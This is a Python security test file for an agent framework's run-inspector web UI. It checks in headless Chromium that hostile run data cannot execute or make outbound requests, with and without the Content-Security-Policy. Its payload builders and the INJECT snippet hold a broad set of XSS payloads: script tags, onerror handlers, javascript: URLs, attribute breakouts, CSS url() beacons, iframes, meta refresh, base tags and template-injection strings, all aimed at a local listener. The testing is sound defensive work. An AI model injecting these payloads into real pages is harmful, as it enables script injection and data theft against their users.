"""The inspector against hostile content, in a real browser: nothing a run holds ever runs (issue 21, item 7).

A run is data someone else may have written. The runs here are real (agents on the simulator, through the
real ``anthropic`` client over HTTP, stored in a ``SQLiteStore``), and every text they hold is hostile: the
prompt, the system prompt, a tool's description, the tool inputs (their keys too) and results (text, content
blocks, a 5 MB one), the model's text across a continuation's seam; then the row is rewritten as a hostile
writer would leave it: the agent's name, the state names and triggers, the tool names, the model, the error,
the reason, the waiting state and why it waits. One run's id is markup itself, and an events file (named
with markup) holds hostile event fields.

Each payload tries to act on the page — set ``data-pwned`` on ``<html>`` (inline script, event handlers,
``javascript:`` URLs, template syntax, an SVG/XML breakout) — or to make the browser reach out to a local
listener (script, stylesheet, ``@import``, background image, frame, object, meta refresh, ``<base>``, a
form), and Unicode bidi overrides try to reorder what surrounds them. Detection is real: headless Chromium,
driven over the DevTools protocol (``test_ui_decisions.Chromium``), opens every page and JSON answer, and
the test asserts that ``data-pwned`` never appears, the listener never hears a request, the DOM holds no
element, attribute or URL the inspector did not write, and no CSP violation was even attempted. Every page
is also opened a second time with the CSP switched off (``Page.setBypassCSP``), so the escaping is tested on
its own: the CSP is the second wall, not the only one. The CSP itself is then tested on its own: markup
injected into a served page through DevTools (as an escaping bug would put it there) is refused.

The header checks run over plain HTTP (fast); the browser tests are slow (they start Chromium).
"""

from __future__ import annotations

import http.server
import json
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import anthropic
import pytest
from test_ui import Served, find_chromium, install_chromium, serve
from test_ui_decisions import Chromium

from agentfsm import Agent, Policy, Tool, Transition, Wait, actions
from agentfsm.observe.replay import write_events
from agentfsm.observe.ui.pages import SHOWN_CHARS
from agentfsm.observe.ui.server import CSP, UIServer
from agentfsm.observe.ui.sources import StoreSource, open_source
from agentfsm.result import RunError
from agentfsm.sim import Simulator
from agentfsm.sim import replies as r
from agentfsm.stores.sqlite import SQLiteStore

MODEL = "claude-haiku-4-5"
MARK = "document.documentElement.dataset.pwned"


class Listener(http.server.ThreadingHTTPServer):
    """A local server no page of the inspector may ever reach: it records every request it gets."""

    def __init__(self) -> None:
        self.hits: list[str] = []

        class Record(http.server.BaseHTTPRequestHandler):
            def _any(self) -> None:
                server.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_HEAD = _any

            def log_message(self, format: str, *args: Any) -> None:
                pass

        server = self
        super().__init__(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()


def payload(where: str, listener: str) -> str:
    """Everything that could act on a page, as one text; ``where`` names the field, in every mark and request."""
    hit = f"{listener}/{where}"
    act = f"{MARK}='{where}'"
    return "\n".join(
        [
            f"<script>{act}</script>",
            f'<img src=x onerror="{act}">',
            f'"><img src=x onerror={act}>',  # out of a double-quoted attribute
            f'\'><svg onload="{act}">',  # out of a single-quoted one
            f'</pre></details></section></div></main><script src="{hit}/script.js"></script>',
            f'<a id="pwn-link" href="javascript:{act}">click</a> javascript:{act}',
            f"<style>@import url({hit}/import.css); html {{ background: url({hit}/bg.png) }}</style>",
            f'<div style="background:url({hit}/inline-style.png)">styled</div> red;background:url({hit}/css.png)',
            f'<link rel="stylesheet" href="{hit}/link.css"><iframe src="{hit}/frame"></iframe>',
            f'<object data="{hit}/object"></object><embed src="{hit}/embed">',
            f'<meta http-equiv="refresh" content="0;url={hit}/refresh"><base href="{hit}/base/">',
            f'<form action="{hit}/form" method="post"><button id="pwn-button">go</button></form>',
            f']]><!-- --><![CDATA[ <script>{act}</script> <foreignObject><img src=x onerror="{act}"/>',
            f'{{{{constructor.constructor("{act}")()}}}} ${{{act}}}',
            # bidi: an override that would reverse what follows, an isolate left open, zero-width joiners
            "\u202eevil override\u202d forced ltr \u2067 open isolate \u200b\u200d\u2060 zero width",
        ]
    )


def short_payload(where: str, listener: str) -> str:
    """For names (a state, a trigger, an agent, a tool): markup, a handler, a bidi override; no newline."""
    return f"{where}<img src=x onerror=\"{MARK}='{where}'\"><script src={listener}/{where}.js></script>\u202erev"


# --- hostile runs ----------------------------------------------------------------------------------------------


class Approve(Agent):
    """A call waits for a person: the waiting run's page shows the held-back call's (hostile) input."""

    model = MODEL
    states = [Wait("awaiting_approval")]
    transitions = [
        Transition("tool_use", "ask_approval", "awaiting_approval"),
        Transition("awaiting_approval", "approve", "requesting", action=actions.answer_tool_calls, runs_tools=True),
    ]


@dataclass
class Hostile:
    listener: Listener
    db: Path
    events: Path
    #: run id → what it is: "finished" (the 5 MB run), "waiting", "markup-id"
    runs: dict[str, str] = field(default_factory=dict)
    events_runs: list[str] = field(default_factory=list)


BIG = 5 * 1024 * 1024
HOSTILE_ID = 'conv_"><img src=x onerror=' + MARK + "='id'>&amp;?#%20\u202e"


def build_runs(folder: Path, listener: Listener) -> Hostile:
    at = listener.url
    P = lambda where: payload(where, at)  # noqa: E731
    N = lambda where: short_payload(where, at)  # noqa: E731

    def fetch_page(url: str, options: dict[str, str]) -> list[dict[str, Any]]:
        """Fetch a page."""
        return [
            {"type": "text", "text": P("tool-result")},
            {
                "type": "search_result",
                "source": f"javascript:{MARK}='search-source'",
                "title": P("search-title"),
                "content": [{"type": "text", "text": P("search-content")}],
            },
        ]

    def dump(size: int) -> str:
        """Dump a big file."""
        half = "A" * (BIG // 2)
        return half + P("big-middle") + half

    tools = [Tool(fetch_page, description=P("tool-description")), Tool(dump, description="Dump.")]
    hostile = Hostile(listener, folder / "runs.db", folder / f"run<img src=x onerror={MARK}='label'>.jsonl")
    script = [
        r.tool_uses(
            [
                ("fetch_page", {"url": P("tool-input"), "options": {N("input-key"): P("input-value")}}),
                ("dump", {"size": BIG}),
                ("fetch_page", {"url": 3}),  # fails validation: the error quotes the input
            ],
            text=P("model-text"),
        ),
        r.max_tokens(P("continued-text")[:200]),
        r.text(P("continued-text")[200:]),
        r.tool_use("fetch_page", {"url": P("waiting-input"), "options": {}}),
    ]
    sim = Simulator([*script[:3], *script[:3], script[3]])  # two finished runs, then one that waits
    with sim.serve() as url, SQLiteStore(hostile.db) as store:
        client = anthropic.Anthropic(base_url=url, api_key="sk-ant-sim", max_retries=0)
        agent = Agent(
            client=client,
            model=MODEL,
            tools=tools,
            system=P("system"),
            policy=Policy(continuation="prefill", max_tool_result_chars=None, max_tokens=64),
            logger=None,
        )
        for cid in ("conv_hostile", HOSTILE_ID):
            result = agent.run(P("prompt"), store=store, conversation_id=cid)
            assert result.final_state == "done", result.error
            hostile.runs[cid] = "finished"
        hostile.runs[HOSTILE_ID] = "markup-id"
        write_events(result.events, hostile.events)
        # The row as a hostile writer leaves it: names, the model, the error and the reason are markup.
        snap = store.load("conv_hostile")
        trace = [
            s.model_copy(update={"trigger": N(f"trigger-{k}"), "dest": N(f"state-{k}") if k == 1 else s.dest})
            for k, s in enumerate(snap.trace)
        ]
        messages = json.loads(
            json.dumps(snap.messages).replace('"name": "dump"', json.dumps({"name": N("tool")})[1:-1])
        )
        store.save(
            snap.model_copy(
                update={
                    "agent": N("agent-module") + ":" + N("agent-class"),
                    "trace": trace,
                    "messages": messages,
                    "model": N("model"),
                    "reason": P("reason"),
                    "error": RunError(type=N("error-type"), message=P("error")),
                    "revision": 99,
                }
            )
        )
        waiting = Approve(client=client, tools=tools, logger=None).run(
            P("waiting-prompt"), store=store, conversation_id="conv_waiting"
        )
        assert waiting.final_state == "waiting"
        snap = store.load("conv_waiting")
        decision = snap.pending_decision
        update: dict[str, Any] = {"waiting": N("waiting-state"), "revision": 99}
        if decision is not None:
            update["pending_decision"] = decision.model_copy(
                update={"state": N("waiting-state"), "triggers": [N("waiting-trigger")], "why": P("why")}
            )
        store.save(snap.model_copy(update=update))
        hostile.runs["conv_waiting"] = "waiting"
    # An events file with hostile fields, and one more run in it that only these lines describe.
    lines = [
        {"event": "run.started", "agent": N("ev-agent") + ":X", "model": N("ev-model"), "messages": 1},
        {"event": "tool.started", "tool": N("ev-tool"), "tool_use_id": N("ev-tool-id")},
        {"event": "tool.finished", "tool": N("ev-tool"), "tool_use_id": N("ev-tool-id"), "is_error": True},
        {"event": "transition", "source": "requesting", "dest": N("ev-state"), "trigger": N("ev-trigger")},
        {"event": "request.failed", "error_type": N("ev-error"), "message": P("ev-message")},
        {"event": "run.finished", "final_state": N("ev-state"), "reason": P("ev-reason"), "turns": 1},
    ]
    with hostile.events.open("a", encoding="utf-8") as out:
        for k, line in enumerate(lines):
            head = {"level": "info", "conversation_id": "conv_events", "turn": 1, "state": "requesting"}
            out.write(json.dumps({**head, "timestamp": 1000.0 + k, **line}) + "\n")
    hostile.events_runs = [result.conversation_id, "conv_events"]
    return hostile


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    listener = Listener()
    try:
        yield build_runs(tmp_path_factory.mktemp("hostile"), listener)
    finally:
        listener.shutdown()
        listener.server_close()


@pytest.fixture(scope="module")
def store_ui(hostile: Hostile) -> Iterator[Served]:
    served = serve(open_source(f"sqlite:///{hostile.db}"))
    yield served
    served.stop()


@pytest.fixture(scope="module")
def events_ui(hostile: Hostile) -> Iterator[Served]:
    served = serve(open_source(events=hostile.events))
    yield served
    served.stop()


def run_paths(run_id: str, steps: int) -> list[str]:
    rid = quote(run_id, safe="")
    paths = [f"/runs/{rid}", f"/runs/{rid}?step=1", f"/runs/{rid}?graph=path", f"/api/runs/{rid}"]
    paths += [f"/runs/{rid}?step={n}" for n in range(2, steps + 1)]
    paths += [f"/api/runs/{rid}/steps/{n}" for n in (1, steps)]
    paths += [f"/api/runs/{rid}/graph.svg", f"/api/runs/{rid}/graph.mmd", f"/api/runs/{rid}/graph.dot"]
    return paths


def every_path(served: Served, run_ids: list[str], listener: str) -> list[str]:
    """The list (plain and with a hostile filter), each run's pages and answers, and hostile error pages."""
    P = quote(short_payload("query", listener), safe="")
    paths = ["/", f"/?q={P}&agent={P}&state={P}", "/api/runs", f"/api/runs?q={P}", "/api/signature"]
    for run_id in run_ids:
        paths += run_paths(run_id, len(served.json(f"/api/runs/{quote(run_id, safe='')}")["steps"]))
    paths += [f"/runs/{P}", f"/runs/conv_hostile?step={P}", f"/api/runs/{P}", f"/{P}", f"/runs/conv_hostile?graph={P}"]
    return paths


# --- over HTTP: every answer carries the CSP --------------------------------------------------------------------


@pytest.mark.slow  # every page of the hostile runs (the fixture builds a 5 MB run)
def test_every_answer_carries_the_csp_and_no_hostile_markup(
    hostile: Hostile, store_ui: Served, events_ui: Served
) -> None:
    checked = 0
    for served, ids in ((store_ui, list(hostile.runs)), (events_ui, hostile.events_runs)):
        for path in every_path(served, ids, hostile.listener.url):
            status, headers, body = served.get(path)
            kind = headers["Content-Type"]
            assert status in (200, 400, 404), (path, status)
            policy = headers.get("Content-Security-Policy")
            assert policy is not None, path
            if kind.startswith("text/html"):
                assert policy == CSP, path
                text = body.decode()
                # markup the inspector did not write never reaches the page: the only script is its own
                assert text.count("<script") == 1 and '<script src="/static/ui.js" defer></script>' in text, path
                assert "<img src=x" not in text and "<iframe" not in text and "<base " not in text, path
            else:
                assert "default-src 'none'" in policy and "sandbox" in policy, (path, policy)
            assert headers["X-Content-Type-Options"] == "nosniff"
            checked += 1
    for name in ("ui.js", "ui.css", "graph.css", "favicon.svg"):
        assert "default-src 'none'" in store_ui.get(f"/static/{name}")[1]["Content-Security-Policy"]
    assert checked > 40
    assert store_ui.get("/runs/conv_hostile", method="DELETE")[1]["Content-Security-Policy"] == CSP
    assert "unsafe" not in CSP and "script-src 'self'" in CSP  # no inline script, no eval, no other origin
    # http.server's own refusals, before any route: an unknown method, a URL too long, a header line too long.
    markup = quote(short_payload("refusal", hostile.listener.url), safe="<>\"'=/:").encode()
    for request in (
        b"FOO /runs/" + markup + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /" + b"x" * 70_000 + markup + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /" + markup + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: " + b"y" * 70_000 + markup + b"\r\n\r\n",
    ):
        head, _, body = raw_request(store_ui.server.port, request).partition(b"\r\n\r\n")
        assert head.split()[1] in (b"414", b"431", b"501"), head[:200]
        assert f"Content-Security-Policy: {CSP}".encode() in head, head
        assert b"<img" not in body and b"<script" not in body.replace(b'<script src="/static/ui.js" defer>', b"")
    assert hostile.listener.hits == []


def raw_request(port: int, request: bytes) -> bytes:
    """Send ``request``'s bytes as they are; the whole answer (the server closes the connection)."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
        conn.sendall(request)
        chunks = []
        while chunk := conn.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


@pytest.mark.slow  # the hostile runs fixture (a 5 MB run)
def test_the_hostile_runs_are_what_they_claim(hostile: Hostile, store_ui: Served) -> None:
    """The payloads did reach the store and the answers (as text): the other tests do test something."""
    body = store_ui.json("/api/runs/conv_hostile")
    last = store_ui.json(f"/api/runs/conv_hostile/steps/{len(body['steps'])}")
    text = json.dumps([body, last])
    for where in ("tool-input", "tool-result", "search-title", "model-text", "input-key", "error", "prompt"):
        assert f"{MARK}='{where}'" in text, where
    assert body["run"]["agent"].startswith("agent-module<img")
    (big,) = [c for c in body["tool_calls"] if c["name"].startswith("tool<img")]
    assert len(big["result"]) > BIG
    page = store_ui.html("/runs/conv_hostile")
    assert "tool-description" in page and "system" in page and "&lt;script&gt;" in page
    assert body["steps"][1]["dest"].startswith("state-1<img")
    assert store_ui.json("/api/runs/conv_waiting")["waiting"]["state"].startswith("waiting-state<img")


# --- in a real browser ------------------------------------------------------------------------------------------

#: Run in every page before its own script (DevTools injects it, outside the CSP): records every CSP violation.
WATCH = """window.__violations = [];
document.addEventListener('securitypolicyviolation', function (e) {
  window.__violations.push(e.violatedDirective + ' ' + (e.blockedURI || '') + ' ' + (e.sample || ''));
});"""

#: What the DOM holds that the inspector never writes: injected elements, handlers, URLs.
INSPECT = """(function () {
  var found = [];
  var all = document.querySelectorAll('*');
  for (var i = 0; i < all.length; i++) {
    var el = all[i], tag = el.tagName.toLowerCase();
    if (['iframe', 'object', 'embed', 'base', 'form', 'style', 'foreignobject'].indexOf(tag) >= 0
        && !(tag === 'form' && (el.classList.contains('filter') || el.classList.contains('decide'))))
      found.push('element ' + tag);
    if (tag === 'script' && el.getAttribute('src') !== '/static/ui.js') found.push('script ' + el.outerHTML);
    if (tag === 'meta' && el.hasAttribute('http-equiv')) found.push('meta http-equiv');
    var ours = ['/static/ui.css', '/static/graph.css', '/static/favicon.svg'];
    if (tag === 'link' && ours.indexOf(el.getAttribute('href')) < 0) found.push('link ' + el.getAttribute('href'));
    if (tag === 'img') found.push('img ' + el.getAttribute('src'));
    for (var j = 0; j < el.attributes.length; j++) {
      var a = el.attributes[j], name = a.name.toLowerCase(), value = a.value.trim().toLowerCase();
      if (name.indexOf('on') === 0) found.push('handler ' + name + ' on ' + tag);
      if ((name === 'href' || name === 'src' || name === 'action' || name === 'xlink:href' || name === 'data')
          && (value.indexOf('javascript:') === 0 || value.indexOf('http') === 0 || value.indexOf('//') === 0))
        found.push('url ' + name + '=' + value.slice(0, 80));
      if (name === 'style' && value.indexOf('url(') >= 0) found.push('style url on ' + tag);
    }
  }
  return {
    pwned: document.documentElement.dataset.pwned || null,
    found: found,
    violations: window.__violations || ['the watch did not run'],
    ids: ['pwn-link', 'pwn-button'].filter(function (id) { return document.getElementById(id); }),
  };
})()"""


@pytest.fixture(scope="module")
def chromium() -> Iterator[Chromium]:
    exe = find_chromium() or install_chromium()
    profile = Path(tempfile.mkdtemp(prefix="agentfsm-chromium-hostile-"))
    browser = Chromium(exe, profile)
    browser.call("Page.addScriptToEvaluateOnNewDocument", session=browser.session, source=WATCH)
    try:
        yield browser
    finally:
        browser.close()
        subprocess.run(["rm", "-rf", str(profile)], check=False)


def look(chromium: Chromium, url: str) -> dict[str, Any]:
    chromium.open(url)
    seen: dict[str, Any] = chromium.run(INSPECT)
    dialogs = [e for e in chromium.events if e.get("method") == "Page.javascriptDialogOpening"]
    seen["dialogs"] = dialogs
    return seen


def browse_all(chromium: Chromium, served: Served, paths: list[str], listener: Listener, csp: bool) -> int:
    pages = 0
    chromium.call("Page.setBypassCSP", session=chromium.session, enabled=not csp)
    try:
        for path in paths:
            kind = served.get(path, method="HEAD")[1]["Content-Type"]
            seen = look(chromium, served.url + path)
            where = f"{path} ({'with' if csp else 'without'} the CSP)"
            assert seen["pwned"] is None, where
            assert seen["dialogs"] == [] and seen["ids"] == [], where
            assert seen["violations"] == [], (where, seen["violations"][:5])
            if kind.startswith("text/html"):
                assert seen["found"] == [], (where, seen["found"][:10])
                ready = chromium.run("document.documentElement.dataset.js || ''")
                assert ready == "ready", where  # the page's own script ran (the CSP let it)
                pages += 1
            assert listener.hits == [], (where, listener.hits)
    finally:
        chromium.call("Page.setBypassCSP", session=chromium.session, enabled=False)
    return pages


@pytest.mark.slow  # Chromium
def test_in_a_browser_no_hostile_content_runs_with_or_without_the_csp(
    chromium: Chromium, hostile: Hostile, store_ui: Served, events_ui: Served
) -> None:
    for served, ids in ((store_ui, list(hostile.runs)), (events_ui, hostile.events_runs)):
        paths = every_path(served, ids, hostile.listener.url)
        for csp in (True, False):
            assert browse_all(chromium, served, paths, hostile.listener, csp) > 10
    # The hostile text is on the page, as text: the payloads were drawn, not dropped; the 5 MB result is cut
    # where the page says so (the run's JSON has all of it: test_the_hostile_runs_are_what_they_claim).
    chromium.open(f"{store_ui.url}/runs/conv_hostile")
    shown = chromium.run("document.body.textContent.length")
    assert 2 * SHOWN_CHARS < shown < BIG // 10
    assert chromium.run("document.body.textContent.indexOf('more characters (all in the run') >= 0")
    assert chromium.run(f"document.body.textContent.indexOf(\"{MARK}='tool-result'\") >= 0")
    assert chromium.run("document.body.textContent.indexOf('<script>') >= 0")
    assert hostile.listener.hits == []


@pytest.mark.slow  # Chromium
def test_in_a_browser_a_live_page_refreshed_with_hostile_content_runs_none_of_it(
    chromium: Chromium, hostile: Hostile
) -> None:
    """The page of a run going on draws itself again from the server's HTML (DOMParser, importNode): the
    hostile content it brings runs no more than on the first load."""

    class Moving(StoreSource):
        n = 0

        def signature(self, run_id: str | None = None) -> str:
            Moving.n += 1
            return f"{super().signature(run_id)}-{Moving.n}"  # a new fingerprint every time: always refresh

    served = Served(UIServer(Moving(SQLiteStore(hostile.db), label="moving"), "127.0.0.1", 0))
    try:
        chromium.open(f"{served.url}/runs/conv_waiting")  # waiting: not finished, so the page polls
        before = chromium.run("document.getElementById('main').dataset.signature")
        # Until the page has polled and drawn itself again (its own 2 s timer; a promise in the page, no sleep here).
        after = chromium.run(
            "new Promise(function (done) { var t = setInterval(function () {"
            " var s = document.getElementById('main').dataset.signature;"
            f" if (s !== {json.dumps(before)}) {{ clearInterval(t); done(s); }} }}, 50); }})",
            timeout=40,
        )
        assert after != before  # it polled and drew itself again, at least once
        seen = chromium.run(INSPECT)
        assert seen["pwned"] is None and seen["found"] == [] and seen["violations"] == []
        assert hostile.listener.hits == []
    finally:
        served.stop()


#: Markup an escaping bug would let in, put into a served page through DevTools: the CSP must refuse all of it.
INJECT = """(function (listener) {
  var box = document.createElement('div');
  box.innerHTML = '<img src=x onerror="document.documentElement.dataset.pwned=\\'handler\\'">'
    + '<img src="' + listener + '/img.png">'
    + '<link rel="stylesheet" href="' + listener + '/link.css">'
    + '<style>html { background: url(' + listener + '/style.png) }</style>'
    + '<iframe src="' + listener + '/frame"></iframe>'
    + '<a id="js-link" href="javascript:document.documentElement.dataset.pwned=\\'link\\'">x</a>'
    + '<form id="away" method="post" action="' + listener + '/form"></form>';
  document.body.appendChild(box);
  var inline = document.createElement('script');
  inline.textContent = "document.documentElement.dataset.pwned = 'inline script'";
  document.body.appendChild(inline);
  var remote = document.createElement('script');
  remote.src = listener + '/remote.js';
  document.body.appendChild(remote);
  var blocked = [];
  document.getElementById('js-link').click();
  try { document.getElementById('away').submit(); } catch (e) { blocked.push('form'); }
  return fetch(listener + '/fetch').then(function () { return 'fetched'; }, function () { return 'fetch refused'; })
    .then(function (f) { blocked.push(f); return blocked; });
})"""


@pytest.mark.slow  # Chromium
def test_in_a_browser_the_csp_refuses_what_an_escaping_bug_would_let_in(
    chromium: Chromium, hostile: Hostile, store_ui: Served
) -> None:
    listener = hostile.listener
    for path in ("/runs/conv_hostile", "/", "/runs/nope"):  # a run, the list, an error page
        chromium.open(store_ui.url + path)
        assert chromium.run("document.documentElement.dataset.js") == "ready"
        blocked = chromium.run(f"{INJECT}({json.dumps(listener.url)})")
        # (eval and new Function are not tried here: Chromium exempts code DevTools evaluates from the CSP's eval
        # rule. The CSP names no 'unsafe-eval': test_every_answer_carries_the_csp_and_no_hostile_markup.)
        assert "fetch refused" in blocked, blocked
        # let whatever was started settle: a round trip to the page after its loads have been tried
        chromium.call("Emulation.setVirtualTimePolicy", session=chromium.session, policy="advance", budget=1000)
        chromium.wait_for("Emulation.virtualTimeBudgetExpired", timeout=60)
        chromium.call("Emulation.setVirtualTimePolicy", session=chromium.session, policy="advance")
        assert chromium.run("document.documentElement.dataset.pwned || null") is None, path
        assert chromium.run("location.pathname") == path  # neither the javascript: link nor the form navigated
        violations = chromium.run("window.__violations")
        for directive in ("script-src", "img-src", "style-src", "frame-src", "connect-src", "form-action"):
            assert any(v.startswith(directive) for v in violations), (path, directive, violations)
        assert listener.hits == [], listener.hits
